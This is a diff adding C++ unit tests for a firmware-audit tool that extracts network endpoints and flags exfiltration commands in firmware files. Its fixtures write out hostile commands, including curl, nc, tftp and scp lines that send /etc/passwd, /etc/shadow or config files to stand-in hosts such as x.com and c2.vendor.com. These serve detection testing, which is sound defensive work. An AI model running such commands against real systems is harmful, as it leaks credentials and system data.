@@ -1,0 +1,188 @@
+// Unit tests of the endpoint extractor, the special ranges, the exfiltration reader and the
+// CB-NET checks over an inventory (with decoys: documentation and private addresses,
+// version numbers, file names, comments, the allow list).
+#include "audit/endpoints.h"
+
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include "clearbox/audit/check.h"
+
+namespace clearbox::audit {
+namespace {
+
+using internal::DescribeExfiltration;
+using internal::ExtractEndpoints;
+using internal::ExtractMode;
+using internal::IsSpecialHost;
+using ::testing::ElementsAre;
+using ::testing::HasSubstr;
+using ::testing::IsEmpty;
+using ::testing::SizeIs;
+
+std::vector<std::string> Hosts(std::string_view text, ExtractMode mode = ExtractMode::kText) {
+  std::vector<std::string> out;
+  for (const auto& h : ExtractEndpoints(text, mode)) out.push_back(h.host);
+  return out;
+}
+
+TEST(ExtractEndpoints, UrlsAddressesAndNames) {
+  EXPECT_THAT(Hosts("wget http://Update.Vendor.com:8080/fw.bin"), ElementsAre("update.vendor.com"));
+  EXPECT_THAT(Hosts("ftp://user:pw@files.vendor.cn/a"), ElementsAre("files.vendor.cn"));
+  EXPECT_THAT(Hosts("url=https://[2606:4700::1111]:443/x"), ElementsAre("2606:4700::1111"));
+  EXPECT_THAT(Hosts("server 8.8.8.8 iburst"), ElementsAre("8.8.8.8"));
+  EXPECT_THAT(Hosts("nameserver 2001:4860:4860::8888"), ElementsAre("2001:4860:4860::8888"));
+  EXPECT_THAT(Hosts("ntp=pool.ntp.org;"), ElementsAre("pool.ntp.org"));
+  EXPECT_THAT(Hosts("scp /etc/x root@backup.vendor.com:/srv"), ElementsAre("backup.vendor.com"));
+  auto hits = ExtractEndpoints("abc 1.1.1.1", ExtractMode::kText);
+  ASSERT_THAT(hits, SizeIs(1));
+  EXPECT_EQ(hits[0].offset, 4u);
+  EXPECT_TRUE(hits[0].is_address);
+}
+
+TEST(ExtractEndpoints, DecoysAreNotEndpoints) {
+  EXPECT_THAT(Hosts("version 1.2.3.4"), IsEmpty());
+  EXPECT_THAT(Hosts("VERSION=10.20.30.40"), IsEmpty());
+  EXPECT_THAT(Hosts("fw_ver: 1.0.0.1"), IsEmpty());
+  EXPECT_THAT(Hosts("v1.2.3.4 1.2.3.4-rc1 1.3.6.1.4.1.2021 01.02.03.04 300.1.1.1"), IsEmpty());
+  EXPECT_THAT(Hosts("/usr/lib/libfoo.so.1 config.sh main.py build.mk x.in"), IsEmpty());
+  EXPECT_THAT(Hosts("mail support@vendor.com"), IsEmpty());
+  EXPECT_THAT(Hosts("com.vendor.app org.freedesktop.DBus"), IsEmpty());
+  EXPECT_THAT(Hosts("std::string dead::beef 12:30:45 00:11:22:33:44:55"), IsEmpty());
+  EXPECT_THAT(Hosts("user.id req.body this.name"), IsEmpty());
+  EXPECT_THAT(Hosts("$SERVER/upload http://$HOST/x"), IsEmpty());
+  EXPECT_THAT(Hosts("Vendor.Com", ExtractMode::kBinaryString), IsEmpty());
+}
+
+TEST(IsSpecialHost, RangesAndNames) {
+  for (const char* h : {"192.0.2.5", "198.51.100.1", "203.0.113.200", "10.1.2.3", "172.16.0.1",
+                        "172.31.255.255", "192.168.1.1", "127.0.0.1", "169.254.1.1", "224.0.0.251",
+                        "0.0.0.0", "255.255.255.255", "100.64.0.1", "2001:db8::1", "::1", "fe80::1",
+                        "fd00::5", "ff02::1", "::ffff:192.168.1.1", "example.com", "www.example.org",
+                        "router.test", "x.invalid", "a.localhost", "printer.local", "localhost"}) {
+    EXPECT_TRUE(IsSpecialHost(h)) << h;
+  }
+  for (const char* h : {"8.8.8.8", "172.32.0.1", "100.128.0.1", "2606:4700::1111",
+                        "update.vendor.com", "examples.com"}) {
+    EXPECT_FALSE(IsSpecialHost(h)) << h;
+  }
+}
+
+TEST(DescribeExfiltration, FormsThatSendData) {
+  EXPECT_THAT(DescribeExfiltration("curl -d @/proc/net/arp http://x.com"), HasSubstr("curl"));
+  EXPECT_THAT(DescribeExfiltration("curl -F 'f=@/etc/passwd' http://x.com"), HasSubstr("uploads"));
+  EXPECT_THAT(DescribeExfiltration("curl --data \"$(cat /etc/shadow)\" x.com"), HasSubstr("posts"));
+  EXPECT_THAT(DescribeExfiltration("curl -T /tmp/log ftp://1.1.1.1/"), HasSubstr("uploads"));
+  EXPECT_THAT(DescribeExfiltration("wget --post-file=/etc/config/system http://x.com"),
+              HasSubstr("wget"));
+  EXPECT_THAT(DescribeExfiltration("nc 1.1.1.1 9 < /etc/shadow"), HasSubstr("nc"));
+  EXPECT_THAT(DescribeExfiltration("cat /proc/cpuinfo | nc 1.1.1.1 9"), HasSubstr("piped"));
+  EXPECT_THAT(DescribeExfiltration("tftp -p -l /etc/passwd 1.1.1.1"), HasSubstr("tftp"));
+  EXPECT_THAT(DescribeExfiltration("ftpput host remote local"), HasSubstr("ftpput"));
+  EXPECT_THAT(DescribeExfiltration("scp /etc/shadow root@h.com:/srv"), HasSubstr("scp"));
+}
+
+TEST(DescribeExfiltration, FormsThatDoNot) {
+  EXPECT_EQ(DescribeExfiltration("curl -s http://x.com/fw.bin -o /tmp/fw.bin"), "");
+  EXPECT_EQ(DescribeExfiltration("wget http://x.com/a"), "");
+  EXPECT_EQ(DescribeExfiltration("curl -d mode=1 http://x.com"), "");
+  EXPECT_EQ(DescribeExfiltration("nc -l -p 23 < /etc/motd"), "");
+  EXPECT_EQ(DescribeExfiltration("tftp -g -r fw.bin 1.1.1.1"), "");
+  EXPECT_EQ(DescribeExfiltration("# curl -F f=@/etc/passwd http://x.com"), "");
+}
+
+inventory::Inventory Inv(std::vector<std::tuple<std::string, inventory::FileKind, std::string>> fs) {
+  inventory::Inventory inv;
+  inv.image = "fw.bin";
+  for (auto& [path, kind, text] : fs) {
+    inventory::FileRecord f;
+    f.node.path = path;
+    f.node.provenance = "fw.bin!squashfs:" + path;
+    f.node.type = unpack::NodeType::kFile;
+    f.node.size = text.size();
+    f.kind = kind;
+    f.text = text;
+    inv.files.push_back(std::move(f));
+  }
+  return inv;
+}
+
+TEST(NetChecks, ExfiltrationIsHighPlainEndpointsAreInfo) {
+  using K = inventory::FileKind;
+  auto inv = Inv({{"/etc/crontabs/root", K::kConfig,
+                   "# 0 * * * * curl -F f=@/etc/passwd http://old.c2.com/\n"
+                   "0 * * * * curl -F f=@/etc/passwd http://c2.vendor.com/\n"},
+                  {"/usr/bin/r.sh", K::kScript,
+                   "#!/bin/sh\nHOST=up.vendor.cn\nping 10.0.0.1\n"
+                   "tftp -p -l /etc/config/network $HOST\n"
+                   "echo version 1.2.3.4 docs 192.0.2.1 www.example.com\n"},
+                  {"/usr/share/doc/x/README", K::kText, "see http://gnu.org/licenses\n"}});
+  AuditOptions opts;
+  opts.only = {"CB-NET-001", "CB-NET-002"};
+  auto r = RunAudit(inv, opts);
+  ASSERT_TRUE(r.ok());
+  std::vector<std::string> seen;
+  for (const Finding& f : r->findings) seen.push_back(f.check_id + " " + f.message);
+  ASSERT_THAT(r->findings, SizeIs(4)) << ::testing::PrintToString(seen);
+  EXPECT_EQ(r->findings[0].severity, Severity::kHigh);
+  EXPECT_EQ(r->findings[1].severity, Severity::kHigh);
+  bool tftp = false;
+  for (const Finding& f : r->findings) {
+    if (f.check_id != "CB-NET-002" || f.message.find("up.vendor.cn") == std::string::npos) continue;
+    tftp = true;
+    ASSERT_THAT(f.evidence, SizeIs(2));  // the command and the assignment
+    EXPECT_EQ(f.evidence[1].excerpt, "HOST=up.vendor.cn");
+    EXPECT_EQ(f.evidence[0].offset, std::string("#!/bin/sh\nHOST=up.vendor.cn\nping 10.0.0.1\n").size());
+  }
+  EXPECT_TRUE(tftp);
+  std::set<std::string> observed;
+  for (const Observation& o : r->observations) {
+    if (o.kind == ObservationKind::kEndpoint) observed.insert(o.name);
+  }
+  EXPECT_THAT(observed, ElementsAre("c2.vendor.com", "up.vendor.cn"));
+}
+
+TEST(NetChecks, AllowedEndpointIsNeitherFindingNorObservation) {
+  using K = inventory::FileKind;
+  auto inv = Inv({{"/etc/ntp.conf", K::kConfig, "server time.vendor.com\nserver 8.8.8.8\n"}});
+  AuditOptions opts;
+  auto allow = AllowList::Parse("endpoint *.vendor.com\n", "allow.txt");
+  ASSERT_TRUE(allow.ok());
+  opts.allow = *allow;
+  opts.only = {"CB-NET-001"};
+  auto r = RunAudit(inv, opts);
+  ASSERT_TRUE(r.ok());
+  ASSERT_THAT(r->findings, SizeIs(1));
+  EXPECT_THAT(r->findings[0].message, HasSubstr("8.8.8.8"));
+  ASSERT_THAT(r->observations, SizeIs(1));
+}
+
+TEST(BinaryScanner, StringsOfProgramsWindowsOnce) {
+  const Check* c = FindCheck("CB-NET-001");
+  ASSERT_NE(c, nullptr);
+  auto scanner = c->make_scanner({});
+  inventory::FileRecord f;
+  f.node.path = "/usr/bin/agent";
+  f.node.provenance = "fw!squashfs:/usr/bin/agent";
+  f.kind = inventory::FileKind::kElf;
+  std::string bytes("\x7f" "ELF", 4);
+  bytes += std::string(60, '\0') + "libc.so.6" + '\0' + "http://api.telemetry.cn/v1" + '\0' +
+           "version 2.6.32.1" + '\0' + "192.168.0.1" + '\0' + std::string(40, '\x01');
+  ByteView all = AsBytes(bytes);
+  scanner->OnContent(f, 0, all.first(100));
+  scanner->OnContent(f, 50, all.subspan(50));
+  inventory::Inventory inv;
+  AuditOptions opts;
+  AuditReport report;
+  AuditContext ctx(inv, opts, report);
+  std::vector<Finding> out;
+  scanner->Finish(ctx, out);
+  ASSERT_THAT(out, SizeIs(1));
+  EXPECT_THAT(out[0].message, HasSubstr("api.telemetry.cn"));
+  EXPECT_THAT(out[0].message, ::testing::Not(HasSubstr("times")));
+  EXPECT_EQ(out[0].evidence[0].offset, bytes.find("http://"));
+  EXPECT_EQ(out[0].evidence[0].excerpt, "http://api.telemetry.cn/v1");
+}
+
+}  // namespace
+}  // namespace clearbox::audit
